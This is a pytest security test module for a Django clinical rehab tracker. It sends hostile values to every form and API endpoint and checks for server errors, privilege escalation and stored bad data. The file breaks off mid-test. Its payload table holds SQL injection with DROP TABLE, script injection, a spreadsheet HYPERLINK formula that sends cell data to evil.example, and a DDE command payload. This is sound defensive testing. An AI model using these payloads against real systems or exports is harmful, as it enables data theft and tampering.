"""Hostile input: every form and endpoint, every kind of bad value. Never a 500, nothing wrong kept.

To cover a new form or endpoint, add one entry to ENDPOINTS: how to reach it (a URL built from the
`World` of standing users, plus anything its `prepare` made), who sends it, a valid body, and the
fields to attack with their kind (`text`, `number`, `date`, `choice`, `id`, `secret`). Each field
is sent in turn with the hostile values that matter for its kind (KIND_VALUES: a date field gets
impossible and far-off dates, a number gets NaN and 1e309, free text gets script and formula
payloads; every kind gets null bytes or lone surrogates and a list for a value). The body is also
sent with extra fields that must be ignored (`id`, `patient`, `is_staff`, ...), and a 3 MB body
must be refused with 400. JSON endpoints set `json=True`; uploads `multipart=True`.

Why kinds and not every value in every field: a cartesian product sent ~25 values to fields that
can only fail one way (a radio button refuses "2026-02-30" exactly as it refuses "ten"), and made
the module too slow for CI. Where two fields of one form are built by the same code (pain_now and
pain_worst), one of them is attacked. See docs/security.md for what is covered and what remains.
"""

import datetime as dt
import io
import json
import math
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote_plus

import pytest
from axes.models import AccessAttempt, AccessFailureLog
from django.contrib.auth.tokens import default_token_generator
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.encoding import force_bytes
from django.utils.http import urlsafe_base64_encode
from django_otp.plugins.otp_totp.models import TOTPDevice
from PIL import Image

from rehab.models import BraceLog, BraceSensor, Exercise, ExerciseLog, MeasuredBraceDay
from tests.factories import (
    PASSWORD,
    ClinicFactory,
    PatientFactory,
    UserFactory,
    checkin_post,
    outcome_schedule,
    rehab_brace,
    rehab_programme,
)
from tests.helpers import patient_form_data
from tests.sensor_files import evening_and_night, ibutton_file, orthotimer_file, samples
from tracker.models import (
    ApiToken,
    AuditEvent,
    ClinicianNote,
    DiaryEntry,
    ImagingStudy,
    Instrument,
    Patient,
    QuestionnaireResponse,
    Role,
    User,
)
from tracker.services.api_tokens import api_token_create
from tracker.services.people import invite_create

pytestmark = pytest.mark.django_db


@dataclass
class World:
    """The standing users and records every hostile request is aimed at or must not touch."""

    patient: Patient
    other_patient: Patient
    clinician: User
    foreign_clinician: User
    clinic_admin: User
    invite_token: str
    reset_uid: str
    reset_token: str
    # What an endpoint's `prepare` made (a programme, a draft questionnaire...).
    extra: dict[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class Hostile:
    """One hostile value: as form text, and (for JSON bodies) as a JSON value."""

    text: str | Callable[[World], str]
    json_value: Any = None

    def as_text(self, world: World) -> str:
        return self.text(world) if callable(self.text) else self.text

    def as_json(self, world: World) -> Any:
        return self.as_text(world) if self.json_value is None else self.json_value


HOSTILE_VALUES = {
    "negative": Hostile("-1", -1),
    "out-of-range": Hostile("11", 11),
    "huge-integer": Hostile("9" * 30, 10**30),
    "fraction": Hostile("2.5", 2.5),
    "word-for-number": Hostile("ten"),
    "nan": Hostile("NaN", math.nan),
    "overflowing-float": Hostile("1e309", math.inf),
    "impossible-date": Hostile("2026-02-30"),
    "far-past-date": Hostile("0001-01-01"),
    "far-future-date": Hostile("9999-12-31"),
    "five-digit-year": Hostile("20260-01-01"),
    "null-byte": Hostile("abc\x00def"),
    "lone-surrogate": Hostile("abc\ud800def"),
    "rtl-override": Hostile("Maya\u202egnp.exe"),
    "sql-payload": Hostile("x' OR '1'='1'; DROP TABLE tracker_patient; --"),
    "script-payload": Hostile("<script>alert(1)</script>"),
    "end-script-in-json": Hostile('</script><script>alert(1)</script>{"a":1}'),
    "csv-formula": Hostile('=HYPERLINK("http://evil.example/?d="&A1,"open")'),
    "csv-dde": Hostile("+cmd|' /C calc'!A0"),
    "very-long": Hostile("x" * 20_000),
    "blank": Hostile("   "),
    "other-patients-id": Hostile(lambda w: str(w.other_patient.pk)),
    "foreign-clinicians-id": Hostile(lambda w: str(w.foreign_clinician.pk)),
    "list-instead-of-value": Hostile("[1, 2]", [1, 2]),
}

# The values that can break each kind of field differently. Every value is in at least one kind
# (checked below), so nothing in HOSTILE_VALUES goes unsent.
KIND_VALUES = {
    "text": (
        "null-byte",
        "lone-surrogate",
        "very-long",
        "rtl-override",
        "sql-payload",
        "script-payload",
        "end-script-in-json",
        "csv-formula",
        "csv-dde",
        "blank",
    ),
    "number": (
        "negative",
        "out-of-range",
        "huge-integer",
        "fraction",
        "word-for-number",
        "nan",
        "overflowing-float",
        "null-byte",
        "list-instead-of-value",
        "blank",
    ),
    "date": (
        "impossible-date",
        "far-past-date",
        "far-future-date",
        "five-digit-year",
        "huge-integer",
        "word-for-number",
        "null-byte",
        "list-instead-of-value",
        "blank",
    ),
    "choice": (
        "out-of-range",
        "huge-integer",
        "sql-payload",
        "lone-surrogate",
        "list-instead-of-value",
        "blank",
    ),
    "id": (
        "other-patients-id",
        "foreign-clinicians-id",
        "huge-integer",
        "negative",
        "word-for-number",
        "nan",
        "null-byte",
        "list-instead-of-value",
        "blank",
    ),
    # Passwords and one-time codes: never echoed, compared as a whole.
    "secret": ("null-byte", "lone-surrogate", "very-long", "sql-payload", "blank"),
}

# Never allowed to appear unescaped in any page.
RAW_SCRIPT = "<script>alert(1)"

EXTRA_FIELDS = {
    "id": lambda w: str(w.other_patient.pk),
    "pk": lambda w: str(w.other_patient.pk),
    "patient": lambda w: str(w.other_patient.pk),
    "user": lambda w: str(w.other_patient.user_id),
    "clinic": lambda w: str(w.foreign_clinician.clinic_id),
    "role": lambda w: Role.CLINIC_ADMIN,
    "is_staff": lambda w: "on",
    "is_superuser": lambda w: "on",
    "created_at": lambda w: "2000-01-01T00:00:00Z",
}


@dataclass(frozen=True)
class Endpoint:
    url: Callable[[World, Client], str]
    body: Callable[[World], dict[str, Any]]
    fields: dict[str, str]  # the fields to attack, and their kind (a key of KIND_VALUES)
    as_user: str | None = None  # a World attribute; None is anonymous
    method: str = "post"
    json: bool = False
    multipart: bool = False
    prepare: Callable[[World], None] | None = None

    def fields_for(self, value_name: str) -> list[str]:
        return [name for name, kind in self.fields.items() if value_name in KIND_VALUES[kind]]


def _reset_url(world: World, client: Client) -> str:
    # The emailed link stores the token in the session and redirects to the form's URL.
    url = reverse("password_reset_confirm", args=[world.reset_uid, world.reset_token])
    return client.get(url)["Location"]


def _days_ago(days: int) -> str:
    return (timezone.localdate() - dt.timedelta(days=days)).isoformat()


def _patient_days_ago(world: World, days: int) -> str:
    return (world.patient.local_today() - dt.timedelta(days=days)).isoformat()


NEW_PASSWORD = "blue-river-kite-2026"


def _sensor_file(patient: Patient) -> bytes:
    """Three days of an Orthotimer file, ending two days ago for the patient."""
    start = dt.datetime.combine(
        patient.local_today() - dt.timedelta(days=5), dt.time(9), tzinfo=patient.zone
    )
    return orthotimer_file(samples(start, days=3, minutes=15, worn=evening_and_night(patient.zone)))


# --- What some endpoints need first -------------------------------------------------------------


def _prepare_rehab(world: World) -> None:
    """A programme and a brace in force, so the check-in shows both rehab sections."""
    start = world.patient.local_today() - dt.timedelta(days=14)
    version = rehab_programme(world.patient, valid_from=start)
    rehab_brace(world.patient, valid_from=start)
    world.extra["items"] = list(version.items.order_by("pk"))
    world.extra["exercises"] = [item.exercise for item in world.extra["items"]]


def _checkin_body(world: World) -> dict[str, Any]:
    items = world.extra["items"]
    data = checkin_post(world.patient.local_today()) | {
        "brace-hours": "7.5",
        "exercises-items": ",".join(str(item.pk) for item in items),
    }
    for item in items:
        data |= {
            f"exercises-done_{item.pk}": "yes",
            f"exercises-sets_{item.pk}": "2",
            f"exercises-pain_{item.pk}": "3",
        }
    return data


def _checkin_fields() -> dict[str, str]:
    return {
        "day": "date",
        # pain_worst, pain_<activity> and exercises-pain_<item> are 0-10 choices as pain_now is;
        # pain_reach, pain_side and medicine are plain choices as exercises-done_<item> is.
        "pain_now": "choice",
        "activities": "choice",
        "medicine_doses": "number",
        "note": "text",
        "saddle_numbness": "choice",  # the three warning signs are the same field
        "brace-hours": "number",
        "exercises-items": "text",
        "exercises-done_{item}": "choice",
        "exercises-sets_{item}": "number",
    }


def _draft(world: World, code: str, *, baseline: bool, activities: tuple = ()) -> None:
    schedule = outcome_schedule(world.patient, code)
    world.extra["response"] = QuestionnaireResponse.objects.create(
        patient=world.patient,
        instrument=schedule.instrument,
        due_on=world.patient.enrolled_on,
        is_baseline=baseline,
        activities=list(activities),
        entered_by=world.patient.user,
    )


def _prepare_odi(world: World) -> None:
    # ODI's wording is licensed and not shipped; the test wording makes it answerable.
    call_command("load_instruments", "tests/data/odi_wording_fake.json", stdout=io.StringIO())
    _draft(world, "odi", baseline=True)


def _step_url(step: int) -> Callable[[World, Client], str]:
    return lambda w, c: reverse("tracker:questionnaire_step", args=[w.extra["response"].pk, step])


def _schedule_body(world: World) -> dict[str, Any]:
    data = {}
    for instrument in Instrument.objects.all():
        data[f"{instrument.code}_interval_weeks"] = "4"
        data[f"{instrument.code}_starts_on"] = world.patient.enrolled_on.isoformat()
    return data | {"psfs_active": "on"}


def _prepare_own_exercise(world: World) -> None:
    world.extra["exercise"] = Exercise.objects.create(
        clinic=world.clinician.clinic,
        name="Dead bug",
        purpose="Core control",
        instructions="Lie on your back.",
        created_by=world.clinician,
    )


EXERCISE_BODY = {
    "name": "Side plank",
    "purpose": "Trunk strength",
    "phase": "protect",
    "instructions": "Lie on your side.\nLift your hips.",
    "cautions": "Stop if it hurts.",
    "sets": "2",
    "reps": "10",
    "hold_seconds": "20",
    "sessions_per_week": "5",
    "image_alt": "",
}
EXERCISE_FIELDS = {
    "name": "text",
    "instructions": "text",
    "phase": "choice",
    "sets": "number",
    "hold_seconds": "number",
    "image_alt": "text",
}


def _programme_body(world: World) -> dict[str, Any]:
    data = {"valid_from": _patient_days_ago(world, 0), "note": "Progress to phase 2."}
    data["exercises"] = [str(e.pk) for e in world.extra["exercises"]]
    for exercise in world.extra["exercises"]:
        data |= {
            f"phase_{exercise.pk}": exercise.phase,
            f"sets_{exercise.pk}": "3",
            f"reps_{exercise.pk}": "10",
            f"hold_{exercise.pk}": "5",
            f"spw_{exercise.pk}": "5",
        }
    return data


def _first(kind_by_template: dict[str, str], world_key: str) -> Callable:
    """Field names that carry a record's id (`sets_{item}`), filled in once the world exists."""
    return lambda w: {
        name.format(item=w.extra[world_key][0].pk): kind for name, kind in kind_by_template.items()
    }


ENDPOINTS = {
    "login": Endpoint(
        lambda w, c: reverse("login"),
        lambda w: {"username": "maya", "password": PASSWORD},
        {"username": "text", "password": "secret"},
    ),
    "admin-login": Endpoint(
        lambda w, c: reverse("admin:login"),
        lambda w: {"username": "admin", "password": PASSWORD},
        {"username": "text", "password": "secret"},
    ),
    "invite-accept": Endpoint(
        lambda w, c: reverse("tracker:invite_accept", args=[w.invite_token]),
        lambda w: {"username": "ella", "password1": NEW_PASSWORD, "password2": NEW_PASSWORD},
        {"username": "text", "password1": "secret"},
    ),
    "password-reset": Endpoint(
        lambda w, c: reverse("password_reset"),
        lambda w: {"email": "maya@example.org"},
        {"email": "text"},
    ),
    "password-reset-confirm": Endpoint(
        _reset_url,
        lambda w: {"new_password1": NEW_PASSWORD, "new_password2": NEW_PASSWORD},
        {"new_password1": "secret", "new_password2": "secret"},
    ),
    "password-change": Endpoint(
        lambda w, c: reverse("password_change"),
        lambda w: {
            "old_password": PASSWORD,
            "new_password1": NEW_PASSWORD,
            "new_password2": NEW_PASSWORD,
        },
        {"old_password": "secret", "new_password1": "secret"},
        as_user="patient_user",
    ),
    "patient-add": Endpoint(
        lambda w, c: reverse("tracker:patient_add"),
        lambda w: {
            "first_name": "Ella",
            "last_name": "Brooks",
            "email": "ella@example.org",
            "date_of_birth": "2011-01-23",
            "sport": "Ballet",
            "conservative_care_started": _days_ago(10),
            "spondylolisthesis": "on",
            "slip_grade": "1",
            "diagnosis_notes": "CT: bilateral L5 pars defects.",
            "treating_clinician": str(w.clinician.pk),
            "care_team": [str(w.clinician.pk)],
            "time_zone": "",
        },
        # Each request renders a 600-option time-zone list; patient-edit sends the rest.
        {
            "first_name": "text",
            "date_of_birth": "date",
            "slip_grade": "choice",
            "treating_clinician": "id",
            "care_team": "id",
        },
        as_user="clinician",
    ),
    "patient-edit": Endpoint(
        lambda w, c: reverse("tracker:patient_edit", args=[w.patient.pk]),
        lambda w: patient_form_data(w.patient),
        {"email": "text", "diagnosis_notes": "text", "conservative_care_started": "date"},
        as_user="clinician",
    ),
    "patient-list": Endpoint(
        lambda w, c: reverse("tracker:patient_list"),
        lambda w: {"show": "all"},
        {"show": "choice"},
        as_user="clinician",
        method="get",
    ),
    "two-factor-setup": Endpoint(
        lambda w, c: reverse("tracker:two_factor_setup"),
        lambda w: {"code": "123456"},
        {"code": "secret"},
        as_user="clinician",
    ),
    "two-factor-verify": Endpoint(
        lambda w, c: reverse("tracker:two_factor_verify"),
        lambda w: {"code": "123456", "next": "/patients/"},
        {"code": "secret", "next": "text"},
        as_user="clinic_admin",
    ),
    "audit-log-search": Endpoint(
        lambda w, c: reverse("tracker:audit_log"),
        lambda w: {
            "user": str(w.clinician.pk),
            "patient": str(w.patient.pk),
            "date_from": _days_ago(7),
            "date_to": _days_ago(0),
        },
        {"user": "id", "patient": "id", "date_from": "date", "date_to": "date"},
        as_user="clinic_admin",
        method="get",
    ),
    # --- Daily check-in, with the rehab sections (brace hours, exercises) ----------------------
    "checkin": Endpoint(
        lambda w, c: reverse("tracker:checkin"),
        _checkin_body,
        {},  # filled in below: the exercise fields carry the programme item's id
        as_user="patient_user",
        prepare=_prepare_rehab,
    ),
    "checkin-day-param": Endpoint(
        lambda w, c: reverse("tracker:checkin"),
        lambda w: {"day": _patient_days_ago(w, 1)},
        {"day": "date"},
        as_user="patient_user",
        method="get",
    ),
    "diary-list-page": Endpoint(
        lambda w, c: reverse("tracker:diary_list"),
        lambda w: {"page": "1"},
        {"page": "number"},
        as_user="patient_user",
        method="get",
    ),
    "my-data-download": Endpoint(
        lambda w, c: reverse("tracker:my_data_download"),
        lambda w: {"dataset": "patients", "excel": "on"},
        {"dataset": "choice", "excel": "choice"},
        as_user="patient_user",
    ),
    "my-data-zip": Endpoint(
        lambda w, c: reverse("tracker:my_data_zip"),
        lambda w: {"excel": "on"},
        {"excel": "choice"},
        as_user="patient_user",
    ),
    # --- Questionnaires ------------------------------------------------------------------------
    "psfs-activities": Endpoint(
        _step_url(1),
        lambda w: {"activity_1": "Back walkover", "activity_2": "Bowling", "activity_3": "Sitting"},
        {"activity_1": "text"},
        as_user="patient_user",
        prepare=lambda w: _draft(w, "psfs", baseline=True),
    ),
    "psfs-ratings": Endpoint(
        _step_url(2),
        lambda w: {"item_1": "2", "item_2": "4", "item_3": "3"},
        {"item_1": "choice"},
        as_user="patient_user",
        prepare=lambda w: _draft(
            w, "psfs", baseline=True, activities=("Back walkover", "Bowling", "Sitting")
        ),
    ),
    "groc": Endpoint(
        _step_url(1),
        lambda w: {"item_rating": "2"},
        {"item_rating": "choice"},
        as_user="patient_user",
        prepare=lambda w: _draft(w, "groc", baseline=False),
    ),
    "weekly-pain": Endpoint(
        _step_url(1),
        lambda w: {"item_average": "4", "item_worst": "6"},
        {"item_average": "choice"},
        as_user="patient_user",
        prepare=lambda w: _draft(w, "weekly_pain", baseline=True),
    ),
    "odi": Endpoint(
        _step_url(1),
        lambda w: {"item_pain_intensity": "2"},
        {"item_pain_intensity": "choice"},
        as_user="patient_user",
        prepare=_prepare_odi,
    ),
    "outcome-schedule": Endpoint(
        lambda w, c: reverse("tracker:patient_outcome_schedule", args=[w.patient.pk]),
        _schedule_body,
        {"psfs_active": "choice", "psfs_interval_weeks": "number", "psfs_starts_on": "date"},
        as_user="clinician",
    ),
    # --- Rehab prescribing and the exercise library --------------------------------------------
    "rehab-programme": Endpoint(
        lambda w, c: reverse("rehab:programme_edit", args=[w.patient.pk]),
        _programme_body,
        {},  # filled in below
        as_user="clinician",
        prepare=_prepare_rehab,
    ),
    "rehab-brace": Endpoint(
        lambda w, c: reverse("rehab:brace_edit", args=[w.patient.pk]),
        lambda w: {
            "valid_from": _patient_days_ago(w, 0),
            "kind": "rigid",
            "target_hours": "20",
            "planned_end": _patient_days_ago(w, -90),
            "wean_from": _patient_days_ago(w, -60),
            "wean_hours": "12",
            "note": "Boston brace.",
        },
        {
            "valid_from": "date",
            "kind": "choice",
            "target_hours": "number",  # wean_hours is the same field, planned_end as valid_from
            "note": "text",
        },
        as_user="clinician",
    ),
    "rehab-stage": Endpoint(
        lambda w, c: reverse("rehab:stage_edit", args=[w.patient.pk]),
        lambda w: {"valid_from": _patient_days_ago(w, 0), "stage": "rest", "note": ""},
        {"valid_from": "date", "stage": "choice"},
        as_user="clinician",
    ),
    "exercise-add": Endpoint(
        lambda w, c: reverse("rehab:exercise_add"),
        lambda w: dict(EXERCISE_BODY),
        EXERCISE_FIELDS,
        as_user="clinician",
        multipart=True,
    ),
    "exercise-edit": Endpoint(
        lambda w, c: reverse("rehab:exercise_edit", args=[w.extra["exercise"].pk]),
        lambda w: EXERCISE_BODY | {"name": "Dead bug"},
        {
            "purpose": "text",
            "reps": "number",
            "sessions_per_week": "number",
            "image-clear": "choice",
        },
        as_user="clinician",
        multipart=True,
        prepare=_prepare_own_exercise,
    ),
    "brace-sensor-import": Endpoint(
        lambda w, c: reverse("rehab:brace_sensor_import", args=[w.patient.pk]),
        lambda w: {
            "serial": "OT-4711",
            "date_order": "",
            "file": ("OT-4711.csv", _sensor_file(w.patient)),
        },
        {"serial": "text", "date_order": "choice"},
        as_user="clinician",
        multipart=True,
    ),
    # --- Imaging and notes ---------------------------------------------------------------------
    "imaging-add": Endpoint(
        lambda w, c: reverse("tracker:imaging_add", args=[w.patient.pk]),
        lambda w: {
            "taken_on": _patient_days_ago(w, 30),
            "modality": "ct",
            "slip_percent": "18.5",
            "slip_grade": "",
            "defect_findings": "Bilateral L5 pars defects.",
            "note": "Sclerotic margins.",
        },
        {
            "taken_on": "date",
            "modality": "choice",
            "slip_percent": "number",
            "slip_grade": "choice",
            "defect_findings": "text",
            "note": "text",
        },
        as_user="clinician",
    ),
    "note-add": Endpoint(
        lambda w, c: reverse("tracker:note_list", args=[w.patient.pk]),
        lambda w: {"written_on": _patient_days_ago(w, 0), "text": "Reviewed the brace plan."},
        {"written_on": "date", "text": "text"},
        as_user="clinician",
    ),
    # --- Exports, API tokens and the API -------------------------------------------------------
    "export-page": Endpoint(
        lambda w, c: reverse("tracker:export"),
        lambda w: {
            "dataset": "patients",
            "patient": str(w.patient.pk),
            "date_from": _days_ago(30),
            "date_to": _days_ago(0),
            "excel": "on",
        },
        {"dataset": "choice", "patient": "id", "date_from": "date", "date_to": "date"},
        as_user="clinician",
    ),
    "api-token-create": Endpoint(
        lambda w, c: reverse("tracker:api_tokens"),
        lambda w: {"name": "Research import"},
        {"name": "text"},
        as_user="clinician",
    ),
    "api-me-patch": Endpoint(
        lambda w, c: reverse("api:me"),
        lambda w: {"time_zone": "Europe/London"},
        {"time_zone": "choice"},
        as_user="patient_user",
        method="patch",
        json=True,
    ),
    "api-export": Endpoint(
        lambda w, c: reverse("api:export", args=["patients"]),
        lambda w: {
            "patient": str(w.patient.pk),
            "date_from": _days_ago(30),
            "date_to": _days_ago(0),
            "excel": "true",
        },
        {"patient": "id", "date_from": "date", "date_to": "date", "excel": "choice"},
        as_user="clinician",
        method="get",
    ),
    "api-patient-list": Endpoint(
        lambda w, c: reverse("api:patient_list"),
        lambda w: {"status": "active", "page": "1", "page_size": "10"},
        {"status": "choice", "page": "number", "page_size": "number"},
        as_user="clinician",
        method="get",
    ),
    # --- The API's check-in, entries, programme, trends and FHIR (docs/api.md) ------------------
    "api-checkin": Endpoint(
        lambda w, c: reverse("api:checkin_day", args=[_patient_days_ago(w, 1)]),
        lambda w: {
            "pain_now": 3,
            "pain_worst": 5,
            "activities": {"walking": 2},
            "medicine": "paracetamol",
            "medicine_doses": 2,
            "note": "Stiff.",
            "saddle_numbness": False,
            "bladder_bowel": False,
            "leg_weakness_worse": False,
            "sections": {},
        },
        {
            "pain_now": "number",
            "medicine": "choice",
            "medicine_doses": "number",
            "note": "text",
            "saddle_numbness": "choice",
        },
        as_user="patient_user",
        method="put",
        json=True,
    ),
    "api-checkin-list": Endpoint(
        lambda w, c: reverse("api:checkin_list"),
        lambda w: {"date_from": _days_ago(7), "date_to": _days_ago(0), "page_size": "10"},
        {"date_from": "date", "page_size": "number"},
        as_user="patient_user",
        method="get",
    ),
    "api-programme": Endpoint(
        lambda w, c: reverse("api:programme"),
        lambda w: {"day": _days_ago(0)},
        {"day": "date"},
        as_user="patient_user",
        method="get",
    ),
    "api-trends": Endpoint(
        lambda w, c: reverse("api:patient_trends", args=[w.patient.pk]),
        lambda w: {"weeks": "12"},
        {"weeks": "number"},
        as_user="clinician",
        method="get",
    ),
    "api-fhir": Endpoint(
        lambda w, c: reverse("api:patient_fhir", args=[w.patient.pk]),
        lambda w: {"format": "json"},
        {"format": "choice"},
        as_user="clinician",
        method="get",
    ),
    # --- The clinician's dashboard and a patient's trends (docs/dashboard.md) -------------------
    "dashboard-filters": Endpoint(
        lambda w, c: reverse("tracker:patient_list"),
        lambda w: {
            "category": "",
            "clinician": "",
            "stale": "on",
            "show": "all",
            "sort": "",
            "page": "1",
        },
        {
            "category": "choice",
            "clinician": "id",
            "stale": "choice",
            "sort": "choice",
            "page": "number",
        },
        as_user="clinician",
        method="get",
    ),
    "patient-trends-range": Endpoint(
        lambda w, c: reverse("tracker:patient_trends", args=[w.patient.pk]),
        lambda w: {"start": _days_ago(60), "end": _days_ago(0), "span": "6m", "diary_page": "2"},
        {"start": "date", "end": "date", "span": "choice", "diary_page": "number"},
        as_user="clinician",
        method="get",
    ),
}

# Field names that carry an id known only once the world exists: attacked as templates.
TEMPLATED_FIELDS = {
    "checkin": (_checkin_fields(), "items"),
    "rehab-programme": (
        {
            "valid_from": "date",
            "note": "text",
            "exercises": "id",
            "sets_{item}": "number",  # reps, hold and spw are the same field
        },
        "exercises",
    ),
}


def _fields(endpoint_name: str, world: World | None) -> dict[str, str]:
    endpoint = ENDPOINTS[endpoint_name]
    if endpoint_name not in TEMPLATED_FIELDS:
        return endpoint.fields
    templates, key = TEMPLATED_FIELDS[endpoint_name]
    if world is None:
        return templates
    return _first(templates, key)(world)


def _value_cases() -> list[tuple[str, str]]:
    cases = []
    for endpoint_name in ENDPOINTS:
        kinds = set(_fields(endpoint_name, None).values())
        for value_name in HOSTILE_VALUES:
            if any(value_name in KIND_VALUES[kind] for kind in kinds):
                cases.append((endpoint_name, value_name))
    return cases


VALUE_CASES = _value_cases()


def test_it_sends_every_hostile_value_somewhere():
    sent = {value for _, value in VALUE_CASES}

    assert sent == set(HOSTILE_VALUES)
    assert all(ENDPOINTS[name].fields or name in TEMPLATED_FIELDS for name in ENDPOINTS)


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def world(patient, other_patient, clinician, foreign_clinician, clinic_admin, clinic) -> World:
    new_user = UserFactory(username="ella.brooks", is_active=False)
    new_patient = PatientFactory(user=new_user, clinic=clinic, treating_clinician=clinician)
    _, token = invite_create(patient=new_patient, created_by=clinician)
    # The administrator has an authenticator, so the verify form is live for them.
    TOTPDevice.objects.create(user=clinic_admin, name="Authenticator app", confirmed=True)
    return World(
        patient=patient,
        other_patient=other_patient,
        clinician=clinician,
        foreign_clinician=foreign_clinician,
        clinic_admin=clinic_admin,
        invite_token=token,
        reset_uid=urlsafe_base64_encode(force_bytes(patient.user.pk)),
        reset_token=default_token_generator.make_token(patient.user),
    )


def _encode_form(data: dict[str, Any]) -> str:
    """URL-encode like a browser would, but let lone surrogates through as raw bytes."""
    pairs = []
    for key, value in data.items():
        for item in value if isinstance(value, list) else [value]:
            raw = str(item).encode("utf-8", "surrogatepass")
            pairs.append(f"{quote_plus(key)}={quote_plus(raw)}")
    return "&".join(pairs)


def _encode_multipart(data: dict[str, Any], boundary: str) -> bytes:
    """multipart/form-data like a browser, lone surrogates as raw bytes; files are (name, bytes)."""
    parts = []
    for key, value in data.items():
        for item in value if isinstance(value, list) else [value]:
            if isinstance(item, tuple):
                filename, content = item
                head = (
                    f'Content-Disposition: form-data; name="{key}"; filename="{filename}"\r\n'
                    "Content-Type: application/octet-stream\r\n\r\n"
                )
                parts.append(head.encode() + content)
            else:
                head = f'Content-Disposition: form-data; name="{key}"\r\n\r\n'
                parts.append(head.encode() + str(item).encode("utf-8", "surrogatepass"))
    body = b"".join(f"--{boundary}\r\n".encode() + part + b"\r\n" for part in parts)
    return body + f"--{boundary}--\r\n".encode()


def _send(client: Client, endpoint: Endpoint, url: str, body: dict[str, Any], **extra: Any):
    if endpoint.json:
        payload = json.dumps(body).encode()
        return client.generic(endpoint.method.upper(), url, payload, "application/json", **extra)
    if endpoint.multipart:
        boundary = uuid.uuid4().hex
        return client.generic(
            endpoint.method.upper(),
            url,
            _encode_multipart(body, boundary),
            f"multipart/form-data; boundary={boundary}",
            **extra,
        )
    encoded = _encode_form(body)
    if endpoint.method == "get":
        return client.get(f"{url}?{encoded}", **extra)
    return client.generic(
        endpoint.method.upper(), url, encoded.encode(), "application/x-www-form-urlencoded", **extra
    )


def _sign_in(client: Client, endpoint: Endpoint, world: World) -> None:
    if endpoint.as_user == "patient_user":
        client.force_login(world.patient.user)
    elif endpoint.as_user:
        client.force_login(getattr(world, endpoint.as_user))


def _privileges() -> set[tuple]:
    return set(User.objects.values_list("pk", "is_staff", "is_superuser", "role", "clinic_id"))


def _assert_privileges_kept(before: set[tuple]) -> None:
    """Nobody gained a privilege; anyone new (an added patient) is a plain patient."""
    after = _privileges()
    assert before <= after
    for _, is_staff, is_superuser, role, clinic_id in after - before:
        assert (is_staff, is_superuser, role, clinic_id) == (False, False, Role.PATIENT, None)


def _untouchable(world: World) -> tuple:
    """What no hostile request may change: the other patient's record and clinical data."""
    other = Patient.objects.select_related("user").get(pk=world.other_patient.pk)
    return (
        other.user.get_full_name(),
        other.user.username,
        other.clinic_id,
        other.treating_clinician_id,
        other.sport,
        other.diagnosis_notes,
        set(other.memberships.values_list("clinician_id", flat=True)),
        DiaryEntry.objects.filter(patient=other).count(),
        ImagingStudy.objects.filter(patient=other).count(),
        ClinicianNote.objects.filter(patient=other).count(),
        BraceLog.objects.filter(patient=other).count(),
        ExerciseLog.objects.filter(patient=other).count(),
        other.programmes.count(),
        QuestionnaireResponse.objects.filter(patient=other).count(),
        Exercise.objects.filter(clinic=world.foreign_clinician.clinic).count(),
    )


def _assert_safe(response, what: str) -> None:
    chain = [response, *getattr(response, "_followed", [])]
    for answer in chain:
        assert answer.status_code < 500, f"{what}: {answer.status_code}"
        if getattr(answer, "streaming", False):
            # A download streams after the view returns: an error would only show here.
            b"".join(answer.streaming_content)
        elif answer.get("Content-Type", "").startswith("text/html"):
            assert RAW_SCRIPT not in answer.content.decode(errors="replace"), what


def _nothing_stored_with_null_bytes() -> None:
    for patient in Patient.objects.select_related("user"):
        texts = [patient.sport, patient.diagnosis_notes, patient.user.first_name]
        texts += [patient.user.last_name, patient.user.username, patient.user.email]
        assert not any("\x00" in text for text in texts)
    texts = list(DiaryEntry.objects.values_list("note", flat=True))
    texts += ClinicianNote.objects.values_list("text", flat=True)
    texts += ImagingStudy.objects.values_list("note", flat=True)
    texts += Exercise.objects.values_list("name", flat=True)
    texts += ApiToken.objects.values_list("name", flat=True)
    for activities in QuestionnaireResponse.objects.values_list("activities", flat=True):
        texts += activities
    assert not any("\x00" in text or "\ud800" in text for text in texts)


def _follow(client: Client, response):
    """Follow redirects by GET, as a browser would, keeping every page to check."""
    followed = []
    while response.status_code in {301, 302, 303} and len(followed) < 5:
        response = client.get(response["Location"])
        followed.append(response)
    return followed


def _prepared(endpoint: Endpoint, world: World) -> World:
    if endpoint.prepare:
        endpoint.prepare(world)
    return world


@pytest.mark.parametrize(("endpoint_name", "value_name"), VALUE_CASES)
def test_it_answers_each_hostile_value_with_a_4xx_or_a_form_error(
    client, world, endpoint_name, value_name
):
    endpoint, hostile = ENDPOINTS[endpoint_name], HOSTILE_VALUES[value_name]
    world = _prepared(endpoint, world)
    privileges, untouchable = _privileges(), _untouchable(world)
    valid = endpoint.body(world)
    fields = _fields(endpoint_name, world)

    attacked = [name for name, kind in fields.items() if value_name in KIND_VALUES[kind]]
    for name in attacked:
        client.logout()
        _sign_in(client, endpoint, world)
        url = endpoint.url(world, client)
        value = hostile.as_json(world) if endpoint.json else hostile.as_text(world)
        response = _send(client, endpoint, url, valid | {name: value}, REMOTE_ADDR="198.51.100.7")
        response._followed = _follow(client, response)

        _assert_safe(response, f"{endpoint_name}.{name}={value_name}")
    assert attacked
    _assert_privileges_kept(privileges)
    assert _untouchable(world) == untouchable
    _nothing_stored_with_null_bytes()


@pytest.mark.parametrize("endpoint_name", ENDPOINTS)
def test_it_ignores_extra_fields_that_name_records_or_privileges(client, world, endpoint_name):
    endpoint = ENDPOINTS[endpoint_name]
    world = _prepared(endpoint, world)
    privileges, untouchable = _privileges(), _untouchable(world)
    _sign_in(client, endpoint, world)
    extra = {name: make(world) for name, make in EXTRA_FIELDS.items()}

    response = _send(client, endpoint, endpoint.url(world, client), endpoint.body(world) | extra)
    response._followed = _follow(client, response)

    _assert_safe(response, endpoint_name)
    _assert_privileges_kept(privileges)
    assert _untouchable(world) == untouchable
    assert not Patient.objects.filter(clinic=world.foreign_clinician.clinic).exists()


@pytest.mark.parametrize(
    "endpoint_name", [name for name, e in ENDPOINTS.items() if e.method != "get"]
)
def test_it_refuses_a_3_mb_body_or_too_many_fields_with_400(client, world, endpoint_name):
    endpoint = ENDPOINTS[endpoint_name]
    world = _prepared(endpoint, world)
    _sign_in(client, endpoint, world)
    url = endpoint.url(world, client)
    body = endpoint.body(world)
    first = next(iter(body))

